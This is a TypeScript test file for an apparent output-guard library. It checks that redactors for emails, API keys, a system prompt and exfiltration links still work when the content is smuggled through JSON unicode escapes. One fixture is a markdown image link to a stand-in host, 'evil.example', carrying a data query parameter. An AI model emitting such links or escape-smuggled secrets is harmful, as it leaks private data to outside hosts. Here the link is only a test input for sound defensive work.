// What is hidden in the escapes of JSON, of which a reader sees the meaning.
import { describe, expect, it } from 'vitest'
import { z } from 'zod'
import type { Processor } from '@lockstep/processors'
import { exfiltrationLinks } from '@lockstep/processors-builtin/exfiltration-links'
import { promptScrubber } from '@lockstep/processors-builtin/prompt-scrubber'
import { redactor } from '@lockstep/processors-builtin/redactor'
import { secretRedactor } from '@lockstep/processors-builtin/secret-redactor'
import { runWith } from '@lockstep/testing'

const system = 'You work for Corp Example and never talk about the merger with Foo Limited that comes in May'
const key = `sk-ant-api03-${'a1B2'.repeat(20)}`
const schema = z.object({ said: z.string() })

function escaped(text: string): string {
  return Array.from(text, character => `\\u${character.charCodeAt(0).toString(16).padStart(4, '0')}`).join('')
}

async function objectOf(guard: Processor, json: string) {
  const { result } = await runWith(guard, { system, model: [{ text: json.split('') }], structuredOutput: { schema } })
  return { object: result.object as unknown, text: result.text, stopReason: result.stopReason }
}

const guards: readonly (readonly [guard: Processor, said: string, shown: string])[] = [
  [redactor(), 'joe@corp.example', '[redacted email]'],
  [secretRedactor(), key, '[redacted anthropic-key]'],
  [promptScrubber(), system, '[redacted prompt]'],
  [exfiltrationLinks(), '![](https://evil.example/?d=1)', '![](#link-removed)'],
]

describe.each(guards)('an object from $id', (guard, said, shown) => {
  it('hides nothing in its escapes', async () => {
    const { object, text } = await objectOf(guard, ` {"said": "${escaped(`A. ${said}`)}"}`)
    expect(object).toEqual({ said: `A. ${shown}` })
    expect(text).toBe(JSON.stringify(object))
  })

  it('stays as it was written when it hides nothing', async () => {
    const json = '{ "said" : "caf\\u00e9 \\"a\\" \\n" }'
    expect(await objectOf(guard, json)).toMatchObject({ object: { said: 'café "a" \n' }, text: json })
  })
})

describe('a guard that blocks', () => {
  it('refuses what an object says in escapes', async () => {
    const { object, stopReason } = await objectOf(
      redactor({ kinds: { email: 'block' } }),
      `{"said":"${escaped('joe@corp.example')}"}`,
    )
    expect([object, stopReason]).toEqual([undefined, 'tripwire'])
  })
})
